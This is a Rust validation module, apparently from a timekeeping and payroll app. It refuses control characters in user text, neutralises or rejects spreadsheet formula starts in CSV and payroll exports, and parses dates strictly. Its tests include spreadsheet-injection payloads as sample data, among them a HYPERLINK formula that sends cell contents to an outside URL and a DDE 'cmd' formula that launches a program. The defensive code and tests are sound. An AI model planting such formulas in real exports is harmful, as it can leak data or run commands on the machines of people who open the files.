//! The one check every text a person types goes through, whatever it is for: names, numbers,
//! reasons, notes, signatures, CSV import cells. Control characters (NUL, tab, the other C0 and
//! C1 controls, DEL) are refused with the field's name: they are never meant, they break exports
//! and PostgreSQL refuses NUL outright. Line breaks are allowed only in text that has lines (a
//! reason, a note), as `\n` (a browser's `\r\n` is taken as one).

use crate::DomainError;

/// Whether a text may hold line breaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    /// A name, a number, a code: one line.
    One,
    /// A reason or a note: line breaks allowed.
    Many,
}

/// Checks `raw` for control characters; `Ok` with the text as it is to be kept (`\r\n` made
/// `\n` when lines are allowed). Does not trim: each kind of text trims as it needs.
pub fn check(field: &'static str, raw: &str, lines: Lines) -> Result<String, DomainError> {
    let text = match lines {
        Lines::One => raw.to_owned(),
        Lines::Many => raw.replace("\r\n", "\n"),
    };
    match text.chars().find(|c| c.is_control() && !(lines == Lines::Many && *c == '\n')) {
        None => Ok(text),
        Some(c) => Err(DomainError::invalid(field, refusal(c, lines))),
    }
}

/// The first character `check` would refuse in `raw` with line breaks allowed, if any (for a
/// check made before the field is known, such as a request body's).
pub fn first_control(raw: &str) -> Option<char> {
    raw.replace("\r\n", "\n").chars().find(|c| c.is_control() && *c != '\n')
}

/// What is said of a refused character.
pub fn refusal(c: char, lines: Lines) -> String {
    let name = match c {
        '\0' => "a NUL character".to_owned(),
        '\t' => "a tab".to_owned(),
        '\n' | '\r' => "a line break".to_owned(),
        other => format!("the control character U+{:04X}", u32::from(other)),
    };
    match lines {
        Lines::One => format!("must be one line of text without control characters; it holds {name}"),
        Lines::Many => format!("must be text without control characters (line breaks are fine); it holds {name}"),
    }
}

/// The characters a spreadsheet (Excel, LibreOffice, Google Sheets) reads as the start of a
/// formula when a cell begins with one: `=`, `+`, `-`, `@`, and a tab or carriage return before them.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell holding `text` would be run as a formula by a spreadsheet.
pub fn starts_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// A text cell as a file meant for people writes it: one that would start a formula gets a
/// leading `'`, which spreadsheets take as "this is text" and do not show (OWASP's advice for
/// CSV injection). Only for text people typed; numbers clockface writes are left alone.
pub fn inert_cell(text: &str) -> String {
    if starts_formula(text) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// Refuses a name or number that would start a formula, for what payroll import files carry:
/// those formats (QuickBooks IIF, ADP, Paychex) have no way to mark a cell as text, so such a
/// value is refused where it is entered, and an export refuses one stored before.
pub fn not_formula(field: &'static str, text: &str) -> Result<(), DomainError> {
    if starts_formula(text) {
        let first = text.chars().next().map_or(String::new(), |c| c.escape_debug().to_string());
        return Err(DomainError::invalid(
            field,
            format!("must not start with `{first}`: a spreadsheet or a payroll import would take it for a formula (start it with a letter or digit)"),
        ));
    }
    Ok(())
}

/// A day as a parameter names it: exactly `YYYY-MM-DD`, zero-padded, nothing around it (a
/// lenient reading of `2026-1-5` or `2026-01-05 ` would record an export nobody asked for).
pub fn parse_day(field: &'static str, raw: &str) -> Result<chrono::NaiveDate, DomainError> {
    let shaped = raw.len() == 10 && raw.bytes().enumerate().all(|(i, b)| if i == 4 || i == 7 { b == b'-' } else { b.is_ascii_digit() });
    let day = shaped.then(|| chrono::NaiveDate::parse_from_str(raw, "%Y-%m-%d").ok()).flatten();
    day.ok_or_else(|| DomainError::invalid(field, format!("`{raw}` is not a day written YYYY-MM-DD (e.g. 2026-01-05)")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_made_inert_or_refused() {
        for hostile in ["=HYPERLINK(\"http://x?d=\"&A1,\"x\")", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+1", "-1-1", "\t=1", "\r=1"] {
            assert_eq!(inert_cell(hostile), format!("'{hostile}"));
            assert!(matches!(not_formula("name", hostile), Err(DomainError::Invalid { field: "name", .. })), "{hostile:?}");
        }
        assert_eq!(inert_cell("Grace Hopper"), "Grace Hopper");
        assert_eq!(inert_cell("8.00"), "8.00");
        assert!(not_formula("number", "A-1").is_ok());
    }

    #[test]
    fn a_day_is_written_in_full() {
        assert_eq!(parse_day("start", "2026-01-05").unwrap(), chrono::NaiveDate::from_ymd_opt(2026, 1, 5).unwrap());
        for bad in ["2026-1-5", "2026-01-05 ", " 2026-01-05", "2026-02-30", "20260105", "2026/01/05", "+2026-01-0"] {
            assert!(matches!(parse_day("start", bad), Err(DomainError::Invalid { field: "start", .. })), "{bad:?}");
        }
    }

    #[test]
    fn control_characters_are_refused_naming_the_field() {
        for bad in ["a\0b", "a\tb", "a\u{1b}[31m", "a\u{7f}", "a\u{85}b", "a\u{9b}b", "a\rb"] {
            for lines in [Lines::One, Lines::Many] {
                let error = check("reason", bad, lines).unwrap_err();
                assert!(matches!(error, DomainError::Invalid { field: "reason", .. }), "{bad:?}");
            }
        }
        assert!(check("name", "a\nb", Lines::One).is_err(), "a name has one line");
    }

    #[test]
    fn ordinary_text_passes_and_lines_are_kept_where_they_belong() {
        assert_eq!(check("name", "José Núñez-O'Brien 😀", Lines::One).unwrap(), "José Núñez-O'Brien 😀");
        assert_eq!(check("reason", "forgot\r\nto clock out\nat 5", Lines::Many).unwrap(), "forgot\nto clock out\nat 5");
        assert_eq!(first_control("line\r\nline"), None);
        assert_eq!(first_control("nul\0"), Some('\0'));
    }
}
